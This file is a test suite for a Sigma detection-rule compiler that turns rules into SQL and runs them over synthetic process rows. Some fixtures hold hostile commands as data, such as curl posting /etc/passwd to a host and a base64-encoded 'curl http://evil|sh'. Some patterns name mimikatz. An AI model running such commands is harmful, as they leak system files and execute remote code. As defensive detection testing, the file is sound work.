@@ -1,0 +1,269 @@
+// The Sigma compiler, modifier by modifier and condition by condition, written from the Sigma specification
+// (rules specification v2 and its modifiers appendix). Each compiled query is checked by the rule validator
+// and run by SQLite on a snapshot of partial process rows, with our SQL functions registered; every case
+// has a near miss that must not match.
+import type {Database} from 'sql.js';
+import {afterAll, beforeAll, describe, expect, it} from 'vitest';
+
+import {snapshotFromRows} from '../../../src/detection/fixture-snapshot.js';
+import {casefold} from '../../../src/detection/sigma/casefold.js';
+import {compileSigmaRule, parseSigmaString, SigmaCompileError} from '../../../src/detection/sigma/compile.js';
+import {SqlValidator} from '../../../src/detection/sql-validator.js';
+import {registerUdfs} from '../../../src/detection/udfs.js';
+import type {PartialProcessRow} from '../../../src/models/process-fixture.js';
+import {loadSqlJs} from '../../../src/storage/sqljs.js';
+
+const ID = '0e5c1e7e-1111-4222-8333-944455556666';
+const validator = new SqlValidator().withReadOnlyMode(true);
+const open: Database[] = [];
+
+beforeAll(async () => {
+  await loadSqlJs();
+});
+afterAll(() => {
+  for (const db of open) db.close();
+});
+
+/** The pids a detection flags among the rows (`allow`: entries of the list sigma_allow). */
+async function flagged(detection: Record<string, unknown>, rows: readonly PartialProcessRow[], allow: readonly string[] = []): Promise<number[]> {
+  const {sql} = compileSigmaRule({id: ID, logsource: {product: 'linux', category: 'process_creation'}, detection});
+  const verdict = validator.validateQuery(sql);
+  expect(verdict.valid ? [] : verdict.errors).toEqual([]);
+  const SQL = await loadSqlJs();
+  const db = new SQL.Database(await snapshotFromRows(rows));
+  open.push(db);
+  registerUdfs(db);
+  db.exec('CREATE TABLE list_sigma_allow (value TEXT)');
+  for (const value of allow) db.run('INSERT INTO list_sigma_allow VALUES (?)', [value]);
+  const result = db.exec(sql);
+  const pidColumn = result[0]?.columns.indexOf('pid') ?? 0;
+  return (result[0]?.values ?? []).map((row) => Number(row[pidColumn])).sort((a, b) => a - b);
+}
+
+const proc = (pid: number, cmd: string[], extra: Record<string, unknown> = {}): PartialProcessRow => ({
+  pid,
+  executable_path: `/usr/bin/${(cmd[0] ?? 'x').split('/').pop() ?? 'x'}`,
+  command_line: cmd,
+  ...extra,
+});
+
+function refusal(detection: unknown, logsource: unknown = {product: 'linux', category: 'process_creation'}): SigmaCompileError {
+  try {
+    compileSigmaRule({id: ID, logsource, detection});
+  } catch (error) {
+    if (error instanceof SigmaCompileError) return error;
+    throw error;
+  }
+  throw new Error('the rule compiled; a refusal was expected');
+}
+
+describe('Sigma strings (specification: wildcards and the escape character)', () => {
+  it('reads * and ? as wildcards, \\* \\? \\\\ as plain characters, a lone \\ as a backslash', () => {
+    expect(parseSigmaString('a*b?c')).toEqual([{kind: 'text', text: 'a'}, {kind: 'star'}, {kind: 'text', text: 'b'}, {kind: 'one'}, {kind: 'text', text: 'c'}]);
+    expect(parseSigmaString('a\\*b\\?')).toEqual([{kind: 'text', text: 'a*b?'}]);
+    expect(parseSigmaString('C:\\Windows')).toEqual([{kind: 'text', text: 'C:\\Windows'}]);
+    expect(parseSigmaString('\\\\*')).toEqual([{kind: 'text', text: '\\'}, {kind: 'star'}]);
+    expect(parseSigmaString('\\\\\\*')).toEqual([{kind: 'text', text: '\\*'}]);
+    expect(parseSigmaString('\\\\\\\\')).toEqual([{kind: 'text', text: '\\\\'}]);
+  });
+
+  it('matches * and ? as wildcards; an escaped * only a star', async () => {
+    const rows = [proc(1, ['tool', 'xAy']), proc(2, ['tool', 'xAAy']), proc(3, ['tool', 'x*y']), proc(4, ['tool', 'xy'])];
+    expect(await flagged({s: {CommandLine: 'tool x?y'}, condition: 's'}, rows)).toEqual([1, 3]);
+    expect(await flagged({s: {CommandLine: 'tool x*y'}, condition: 's'}, rows)).toEqual([1, 2, 3, 4]);
+    expect(await flagged({s: {CommandLine: 'tool x\\*y'}, condition: 's'}, rows)).toEqual([3]);
+  });
+
+  it("keeps SQL's %, _ and ' literal (GLOB classes, doubled quotes), and GLOB's [ too", async () => {
+    const rows = [
+      proc(1, ['echo', "it's"]),
+      proc(2, ['echo', 'its']),
+      proc(3, ['echo', '100%_done']),
+      proc(4, ['echo', '100xxdone']),
+      proc(5, ['echo', 'a[b]']),
+      proc(6, ['echo', 'ab']),
+    ];
+    expect(await flagged({s: {'CommandLine|endswith': "it's"}, condition: 's'}, rows)).toEqual([1]);
+    expect(await flagged({s: {'CommandLine|contains': '%_'}, condition: 's'}, rows)).toEqual([3]);
+    expect(await flagged({s: {'CommandLine|contains': '[b]'}, condition: 's'}, rows)).toEqual([5]);
+  });
+
+  it('matches case-insensitively by default, beyond ASCII too', async () => {
+    const rows = [proc(1, ['echo', 'ÉTÉ']), proc(2, ['echo', 'été']), proc(3, ['echo', 'ete']), proc(4, ['ECHO', 'Hello'])];
+    expect(await flagged({s: {'CommandLine|contains': 'été'}, condition: 's'}, rows)).toEqual([1, 2]);
+    expect(await flagged({s: {'CommandLine|contains': 'echo hello'}, condition: 's'}, rows)).toEqual([4]);
+    expect(casefold('ΣΊΣΥΦΟΣ')).toBe('σίσυφοσ');
+    expect(casefold('\u212a')).toBe('\u212a');
+  });
+});
+
+describe('modifiers (modifiers appendix)', () => {
+  const rows = [proc(1, ['curl', '-d', '@/etc/passwd', 'http://x']), proc(2, ['curl', 'http://x/-d']), proc(3, ['wget', 'http://x'])];
+
+  it('contains, startswith, endswith', async () => {
+    expect(await flagged({s: {'CommandLine|contains': '-d @'}, condition: 's'}, rows)).toEqual([1]);
+    expect(await flagged({s: {'CommandLine|startswith': 'CURL http'}, condition: 's'}, rows)).toEqual([2]);
+    expect(await flagged({s: {'CommandLine|endswith': '/-d'}, condition: 's'}, rows)).toEqual([2]);
+    expect(await flagged({s: {'Image|endswith': '/curl'}, condition: 's'}, rows)).toEqual([1, 2]);
+  });
+
+  it('lists are OR; all makes them AND; all on one value is refused', async () => {
+    expect(await flagged({s: {'CommandLine|contains': ['passwd', 'wget']}, condition: 's'}, rows)).toEqual([1, 3]);
+    expect(await flagged({s: {'CommandLine|contains|all': ['-d', 'passwd']}, condition: 's'}, rows)).toEqual([1]);
+    expect(refusal({s: {'CommandLine|contains|all': ['-d']}, condition: 's'}).message).toMatch(/all needs a list of two or more/);
+  });
+
+  it('cased matches case-sensitively', async () => {
+    const cased = [proc(1, ['tar', '-C', '/tmp']), proc(2, ['tar', '-c', '/tmp'])];
+    expect(await flagged({s: {'CommandLine|contains|cased': ' -C '}, condition: 's'}, cased)).toEqual([1]);
+    expect(await flagged({s: {'CommandLine|contains': ' -C '}, condition: 's'}, cased)).toEqual([1, 2]);
+  });
+
+  it('re is case-sensitive (-D is not -d); its i, m and s flags', async () => {
+    const re = [proc(1, ['ssh', '-D', '1080']), proc(2, ['ssh', '-d', '1080']), proc(3, ['printf', 'a\nb'])];
+    expect(await flagged({s: {'CommandLine|re': ' -D \\d+$'}, condition: 's'}, re)).toEqual([1]);
+    expect(await flagged({s: {'CommandLine|re|i': ' -D \\d+$'}, condition: 's'}, re)).toEqual([1, 2]);
+    expect(await flagged({s: {'CommandLine|re': '^b'}, condition: 's'}, re)).toEqual([]);
+    expect(await flagged({s: {'CommandLine|re|m': '^b'}, condition: 's'}, re)).toEqual([3]);
+    expect(await flagged({s: {'CommandLine|re': 'a.b'}, condition: 's'}, re)).toEqual([]);
+    expect(await flagged({s: {'CommandLine|re|s': 'a.b'}, condition: 's'}, re)).toEqual([3]);
+    expect(refusal({s: {'CommandLine|re': '(unclosed'}, condition: 's'}).message).toMatch(/invalid regular expression/);
+    expect(refusal({s: {'CommandLine|i': 'x'}, condition: 's'}).message).toMatch(/flag of re/);
+  });
+
+  it('exists: the field is there (a process with no parent row has no ParentImage)', async () => {
+    const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sleep', '5'], {ppid: 10}), proc(12, ['orphan'], {ppid: 999})];
+    expect(await flagged({s: {'ParentImage|exists': true}, condition: 's'}, tree)).toEqual([11]);
+    expect(await flagged({s: {'ParentImage|exists': false}, condition: 's'}, tree)).toEqual([10, 12]);
+  });
+
+  it('windash: -, /, en dash, em dash and horizontal bar are interchangeable', async () => {
+    const dashes = [proc(1, ['tool', '-x']), proc(2, ['tool', '/x']), proc(3, ['tool', '\u2013x']), proc(4, ['tool', '\u2015x']), proc(5, ['tool', '+x'])];
+    expect(await flagged({s: {'CommandLine|windash|contains': ' -x'}, condition: 's'}, dashes)).toEqual([1, 2, 3, 4]);
+  });
+
+  it('base64 and base64offset match the encoded value', async () => {
+    const encoded = (text: string, shift = 0) => Buffer.from(`${'#'.repeat(shift)}${text}`).toString('base64');
+    const b = [
+      proc(1, ['sh', '-c', `echo ${encoded('curl http://evil|sh')}`]),
+      proc(2, ['sh', '-c', `echo ${encoded('curl http://evil|sh', 1)}`]),
+      proc(3, ['sh', '-c', `echo ${encoded('curl http://evil|sh', 2)}`]),
+      proc(4, ['sh', '-c', `echo ${encoded('curl http://good|sh')}`]),
+    ];
+    // base64 encodes the whole value, padding included (a prefix of the text is not a prefix of its encoding).
+    expect(await flagged({s: {'CommandLine|base64|contains': 'curl http://evil|sh'}, condition: 's'}, b)).toEqual([1]);
+    expect(await flagged({s: {'CommandLine|base64|contains': 'curl http://evil'}, condition: 's'}, b)).toEqual([]);
+    expect(await flagged({s: {'CommandLine|base64offset|contains': 'http://evil'}, condition: 's'}, b)).toEqual([1, 2, 3]);
+    expect(refusal({s: {'CommandLine|base64|contains': 'a*b'}, condition: 's'}).message).toMatch(/cannot encode a value with wildcards/);
+  });
+
+  it('fieldref compares two fields of the same event', async () => {
+    const tree = [proc(10, ['bash', '-c', 'x'], {ppid: 1}), proc(11, ['BASH', '-C', 'X'], {ppid: 10}), proc(12, ['bash'], {ppid: 10})];
+    expect(await flagged({s: {'CommandLine|fieldref': 'ParentCommandLine'}, condition: 's'}, tree)).toEqual([11]);
+    expect(await flagged({s: {'CommandLine|fieldref|cased': 'ParentCommandLine'}, condition: 's'}, tree)).toEqual([]);
+    expect(await flagged({s: {'ParentCommandLine|fieldref|startswith': 'CommandLine'}, condition: 's'}, tree)).toEqual([11, 12]);
+  });
+
+  it('null and empty values', async () => {
+    const tree = [proc(10, ['bash'], {ppid: 1, cwd: ''}), proc(11, ['sleep'], {ppid: 10, cwd: '/root'}), proc(12, ['top'], {ppid: 10, cwd: null})];
+    expect(await flagged({s: {ParentImage: null}, condition: 's'}, tree)).toEqual([10]);
+    expect(await flagged({s: {CurrentDirectory: ''}, condition: 's'}, tree)).toEqual([10]);
+  });
+
+  it('ProcessId and ParentProcessId are numbers: equality, lt/gt, neq', async () => {
+    const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sleep'], {ppid: 10}), proc(12, ['top'], {ppid: 11})];
+    expect(await flagged({s: {ParentProcessId: 10}, condition: 's'}, tree)).toEqual([11]);
+    expect(await flagged({s: {'ProcessId|gte': 11}, condition: 's'}, tree)).toEqual([11, 12]);
+    expect(await flagged({s: {'ProcessId|neq': 11}, condition: 's'}, tree)).toEqual([10, 12]);
+    expect(refusal({s: {ProcessId: 'abc'}, condition: 's'}).message).toMatch(/whole numbers/);
+  });
+
+  it('refuses what it cannot compile exactly, naming the reason', () => {
+    expect(refusal({s: {'DestinationIp|cidr': '10.0.0.0/8'}, condition: 's'}).message).toMatch(/field DestinationIp has no mapping/);
+    expect(refusal({s: {'CommandLine|cidr': '10.0.0.0/8'}, condition: 's'}).message).toMatch(/modifier cidr is not supported/);
+    expect(refusal({s: {'CommandLine|utf16le|base64': 'x'}, condition: 's'}).message).toMatch(/modifier utf16le is not supported/);
+    expect(refusal({s: {'CommandLine|expand': '%Admins%'}, condition: 's'}).message).toMatch(/modifier expand is not supported/);
+    expect(refusal({s: {'CommandLine|bogus': 'x'}, condition: 's'}).message).toMatch(/bogus is not a Sigma modifier/);
+    const unmapped = refusal({s: {LogonId: 0}, condition: 's'});
+    expect(unmapped.path).toEqual(['detection', 's', 'LogonId']);
+    expect(refusal({s: {Image: 'x'}, condition: 's'}, {product: 'windows', category: 'process_creation'}).message).toMatch(/logsource .* is not supported/);
+  });
+});
+
+describe('missing values under not (a process whose parent is absent from the snapshot)', () => {
+  const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sh', '-c', 'id'], {ppid: 10}), proc(12, ['sh', '-c', 'id'], {ppid: 4242})];
+
+  it('a filter on the parent does not drop a process with no parent: not (missing = x) is true', async () => {
+    const detection = {selection: {'Image|endswith': '/sh'}, filter: {'ParentImage|endswith': '/bash'}, condition: 'selection and not filter'};
+    // 11's parent is bash (filtered out); 12's parent is not in the snapshot: NULL, so the filter is false and 12 is flagged.
+    expect(await flagged(detection, tree)).toEqual([12]);
+  });
+
+  it('a selection on the parent never matches a missing parent', async () => {
+    expect(await flagged({s: {'ParentImage|contains': ''}, condition: 's'}, tree)).toEqual([11]);
+    expect(await flagged({s: {'ParentCommandLine|re': '.*'}, condition: 'not s'}, tree)).toEqual([10, 12]);
+  });
+});
+
+describe('conditions (specification, "Condition")', () => {
+  const rows = [proc(1, ['a', 'x']), proc(2, ['b', 'x']), proc(3, ['a', 'y']), proc(4, ['c', 'z'])];
+  const detection = {
+    sel_a: {'CommandLine|startswith': 'a '},
+    sel_b: {'CommandLine|startswith': 'b '},
+    'filter.x': {'CommandLine|endswith': ' x'},
+    _hidden: {'CommandLine|startswith': 'c '},
+  };
+  const run = (condition: string | string[]) => flagged({...detection, condition}, rows);
+
+  it('and, or, not, parentheses and precedence (not > and > or)', async () => {
+    expect(await run('sel_a and filter.x')).toEqual([1]);
+    expect(await run('sel_a or sel_b')).toEqual([1, 2, 3]);
+    expect(await run('sel_a and not filter.x')).toEqual([3]);
+    expect(await run('sel_b or sel_a and not filter.x')).toEqual([2, 3]);
+    expect(await run('(sel_b or sel_a) and not filter.x')).toEqual([3]);
+    expect(await run('not sel_a and not sel_b')).toEqual([4]);
+    expect(await run('NOT sel_a AND sel_b')).toEqual([2]);
+  });
+
+  it('1 of / all of a pattern, and of them (names starting with _ excluded)', async () => {
+    expect(await run('1 of sel_*')).toEqual([1, 2, 3]);
+    expect(await run('all of sel_*')).toEqual([]);
+    expect(await run('1 of them')).toEqual([1, 2, 3]);
+    expect(await run('all of them')).toEqual([]);
+    expect(await run('1 of *_a or 1 of _*')).toEqual([1, 3, 4]);
+    expect(await run('all of sel_a* and not 1 of filter*')).toEqual([3]);
+  });
+
+  it('a list of conditions is OR', async () => {
+    expect(await run(['sel_a and filter.x', 'sel_b'])).toEqual([1, 2]);
+  });
+
+  it('refuses bad conditions, keyword searches and aggregations by name', () => {
+    const bad = (condition: string) => refusal({...detection, condition}).message;
+    expect(bad('sel_a and')).toMatch(/ends too early/);
+    expect(bad('(sel_a')).toMatch(/not closed/);
+    expect(bad('sel_a sel_b')).toMatch(/unexpected "sel_b"/);
+    expect(bad('sel_c')).toMatch(/does not define/);
+    expect(bad('1 of nothing*')).toMatch(/matches no search identifier/);
+    expect(bad('sel_a | count() > 5')).toMatch(/aggregations/);
+    expect(bad('2 of sel_*')).toMatch(/only "1 of" and "all of"/);
+    expect(refusal({keywords: ['mimikatz'], condition: 'keywords'}).message).toMatch(/keyword search/);
+    expect(refusal({s: {'|all': ['a', 'b']}, condition: 's'}).message).toMatch(/keyword search/);
+  });
+});
+
+describe('tuning with the named list sigma_allow', () => {
+  it('skips processes whose command line matches an entry for this rule or for every rule (*)', async () => {
+    const rows = [proc(1, ['curl', 'http://backup.internal/a']), proc(2, ['curl', 'http://evil/a']), proc(3, ['curl', 'http://mirror/b'])];
+    const detection = {s: {'Image|endswith': '/curl'}, condition: 's'};
+    expect(await flagged(detection, rows, [`${ID}:%backup.internal%`, '*:%mirror%', 'another-rule:%evil%'])).toEqual([2]);
+  });
+});
+
+describe('long value lists', () => {
+  it('compile below SQLite expression depth (a 900-value list runs)', async () => {
+    const values = Array.from({length: 900}, (_, i) => `pkg-${i}@1.0.${i}`);
+    const rows = [proc(1, ['npm', 'install', 'pkg-899@1.0.899']), proc(2, ['npm', 'install', 'pkg-900@1.0.900'])];
+    expect(await flagged({s: {'CommandLine|contains': values}, condition: 's'}, rows)).toEqual([1]);
+  });
+});
